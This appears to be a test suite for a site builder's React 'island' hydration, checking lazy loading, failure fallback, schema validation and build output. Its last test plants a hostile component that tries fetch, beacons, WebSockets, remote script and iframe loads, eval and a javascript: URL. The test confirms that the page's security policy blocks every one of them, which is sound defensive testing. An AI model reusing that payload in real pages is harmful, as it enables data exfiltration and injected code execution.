import { readdirSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import type { Browser, Page } from '@playwright/test'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { slow } from '../depth'
import { bundleCode } from '../../src/node/code/bundleCode'
import { fromRoot } from '../../src/node/process/paths'
import { listen } from '../../src/node/serve/listen'
import { serveFolder } from '../../src/node/serve/serveFolder'
import { openDevServer } from '../dev/openDevServer'
import { launchBrowser } from '../launchBrowser'
import { openKindSites, runCommand as run } from './kindSite'

const sites = openKindSites()
let browser: Browser
beforeAll(async () => void (browser = await launchBrowser()))
afterAll(() => browser.close())

const schema = (further: object = {}) =>
  JSON.stringify({
    'x-api': 1,
    'x-island': true,
    required: ['title'],
    properties: { title: { $ref: 'text.schema.json' } },
    ...further,
  })

const counter = (further = '') => ({
  'schema.json': schema(),
  'words.json': '{ "more": { "en": "One more", "hi": "एक और" } }',
  'View.tsx': `import { useEffect, useId, useState } from 'react'
import styled from 'styled-components'
import { SectionBand } from 'townsite/kit'

export default function Counter({ title, words, language, timeZone }) {
  const [count, setCount] = useState(0)
  const [isLive, setLive] = useState(false)
  const id = useId()
  useEffect(() => setLive(true), [])
  ${further}
  return (
    <SectionBand title={title}>
      <Wide data-live={isLive || undefined}>
        <label htmlFor={id}>{language} {timeZone}</label>
        <input id={id} type="range" defaultValue="3" />
        <button onClick={() => setCount(count + 1)}>{words.more}</button>
        <output>{count}</output>
        <a href="tel:+911234">Call</a>
      </Wide>
    </SectionBand>
  )
}

const Wide = styled.div\`
  margin-block: 120vh 2rem;
\`
`,
})

const section = (id: string, type = 'counter') => ({ type, id, title: 'How many?' })

async function built(...given: Parameters<typeof sites.site>) {
  const made = sites.site(...given)
  const { said } = await run('build', '--site', made.file, '--out', made.out)
  expect(said).toContain('pages in')
  const host = await serveFolder(made.out, 0, '/')
  const page = await browser.newPage({ viewport: { width: 800, height: 600 } })
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  return { ...made, host, page, asked, close: () => Promise.all([page.close(), host.close()]) }
}

const part = (page: Page, id: string) => page.locator(`#${id}`)

test('an island is live once it is seen, with the one React of the page, and only its pages have its code', async () => {
  const { page, host, out, asked, close } = await built({ counter: counter() }, [section('first'), section('second')])
  try {
    const faults: string[] = []
    page.on('console', (message) => message.type() === 'error' && faults.push(message.text()))
    page.on('pageerror', (error) => faults.push(error.message))
    await page.goto(`${host.url}/appointment`, { waitUntil: 'networkidle' })
    expect(asked.filter((path) => /counter|ownKit/.test(path))).toEqual([])
    await page.goto(host.url, { waitUntil: 'networkidle' })
    const first = part(page, 'first')
    expect(await first.getAttribute('data-hydrate')).toBe('visible')
    await first.locator('button').scrollIntoViewIfNeeded()
    await first.locator('[data-live]').waitFor()
    await first.locator('button').click()
    expect(await first.locator('output').textContent()).toBe('1')
    expect(await first.locator('label').textContent()).toBe('en-IN Asia/Kolkata')
    // Two of a kind on a page share no id.
    await first.locator('label').click()
    expect(await first.locator('input').evaluate((input) => input === document.activeElement)).toBe(true)
    expect(faults).toEqual([])
    const scripts = readdirSync(join(out, 'assets')).filter((name) => name.endsWith('.js'))
    const withReact = scripts.filter((name) =>
      readFileSync(join(out, 'assets', name), 'utf8').includes('react.transitional.element'),
    )
    expect(withReact).toEqual([expect.stringMatching(/^hydrateIsland\./)])
  } finally {
    await close()
  }
})

slow(test)('a press before hydration is not lost, and what was moved stays', async () => {
  const { page, host, close } = await built({ counter: counter() }, [section('first')])
  try {
    let go = () => {}
    const gate = new Promise<void>((open) => (go = open))
    await page.route(/assets\/(?:counter|ownKit)/, async (route) => {
      await gate
      await route.continue()
    })
    await page.goto(host.url)
    const first = part(page, 'first')
    await first.locator('input').fill('77')
    await first.locator('button').click()
    expect(await first.locator('output').textContent()).toBe('0')
    go()
    await first.locator('output', { hasText: '1' }).waitFor()
    expect(await first.locator('input').inputValue()).toBe('77')
  } finally {
    await close()
  }
})

slow(test).each([
  ['as it begins', `if (typeof window !== 'undefined') throw new Error('Broken at once')`],
  ['later', `if (count > 0) throw new Error('Broken later')`],
  ['as it cannot be fetched', ''],
])('an island that fails %s leaves the HTML of the page and its ways to call', async (when, fault) => {
  const { page, host, close } = await built({ counter: counter(fault) }, [section('first')])
  try {
    if (fault === '') await page.route(/assets\/counter/, (route) => route.abort())
    const refused = fault === '' ? page.waitForEvent('requestfailed') : undefined
    await page.goto(host.url)
    const first = part(page, 'first')
    const html = await first.innerHTML()
    await first.locator('button').scrollIntoViewIfNeeded()
    if (when === 'later') {
      await first.locator('[data-live]').waitFor()
      await first.locator('button').click()
    }
    if (fault !== '') await page.locator('#first[data-hydrate=failed]').waitFor()
    await refused
    expect(await first.innerHTML()).toBe(html)
    expect(await page.locator('a[href^="tel:"]:visible').count()).toBeGreaterThan(1)
  } finally {
    await close()
  }
})

slow(test)('an idle island starts by itself', async () => {
  const files = { ...counter(), 'schema.json': schema({ 'x-island': 'idle' }) }
  const { page, host, close } = await built({ counter: files }, [section('first')])
  try {
    await page.goto(host.url)
    await page.locator('#first [data-live]').waitFor({ state: 'attached' })
  } finally {
    await close()
  }
})

slow(test)('dev shows an island live', async () => {
  const { file } = sites.site({ counter: counter() }, [section('first')])
  const dev = await openDevServer(fromRoot(''), file)
  const page = await browser.newPage()
  try {
    await page.goto(dev.url)
    await page.locator('#first button').scrollIntoViewIfNeeded()
    await page.locator('#first [data-live]').waitFor()
    await page.locator('#first button').click()
    expect(await page.locator('#first output').textContent()).toBe('1')
  } finally {
    await page.close()
    dev.close()
  }
})

slow(test)('a kind without an island has no code for browsers, and its site that of all others', async () => {
  const files = { ...counter(), 'schema.json': schema({ 'x-island': false }) }
  const { page, host, out, asked, close } = await built({ counter: files }, [section('first')])
  try {
    await page.goto(host.url, { waitUntil: 'networkidle' })
    const { files: ofAll } = await bundleCode()
    const loaded = asked.filter((path) => path.endsWith('.js'))
    expect(loaded.filter((path) => !ofAll.has(path.slice(1)))).toEqual([])
    expect(readdirSync(join(out, 'assets')).filter((name) => /counter|ownKit/.test(name))).toEqual([])
  } finally {
    await close()
  }
})

slow(test)('check names another value of x-island, and a build a second React', async () => {
  const wrong = sites.site({ counter: { ...counter(), 'schema.json': schema({ 'x-island': 'visible' }) } })
  const { code, said } = await run('check', wrong.file)
  expect(code).toBe(1)
  expect(said).toMatch(/schema\.json:1:\d+[^]*"x-island" of a kind can be: true, false, idle/)
  const second = sites.site({
    counter: { ...counter(), 'View.tsx': `import 'react-dom/client'\nexport default () => null` },
  })
  const of = await run('build', '--site', second.file, '--out', second.out)
  expect(of.said).toMatch(/View\.tsx[^]*"react-dom\/client" is not for kinds/)
})

describe('a hostile island', () => {
  slow(test)('gets nothing past the policy of its page', async () => {
    let requests = 0
    const foreign = createServer((_, response) => {
      requests += 1
      response.setHeader('Access-Control-Allow-Origin', '*').end()
    })
    const address = `http://127.0.0.1:${await listen(foreign, 0)}`
    const attack = `useEffect(() => {
    for (const work of [
      () => fetch('${address}/a'),
      () => navigator.sendBeacon('${address}/b', 'x'),
      () => import(/* @vite-ignore */ '${address}/c.js'),
      () => new WebSocket('${address.replace('http', 'ws')}/d'),
      () => (new Image().src = '${address}/e.png'),
      () => document.head.append(Object.assign(document.createElement('script'), { src: '${address}/f.js' })),
      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${address}/g.css' })),
      () => (document.body.innerHTML += '<iframe src="${address}/h"></iframe>'),
      () => eval('window.evaluated = 1'),
      () => new Function('window.evaluated = 1')(),
      () => (location.href = 'javascript:window.evaluated = 1'),
    ]) try { Promise.resolve(work()).catch(() => {}) } catch {}
    document.body.dataset.ran = ''
  }, [])`
    const { page, host, close } = await built({ counter: counter(attack) }, [section('first')])
    try {
      await page.goto(host.url)
      await page.locator('#first button').scrollIntoViewIfNeeded()
      await page.locator('body[data-ran]').waitFor()
      await page.waitForLoadState('networkidle')
      expect(await page.evaluate(() => 'evaluated' in window)).toBe(false)
      expect(requests).toBe(0)
    } finally {
      await close()
      foreign.close()
      foreign.closeAllConnections()
    }
  })
})
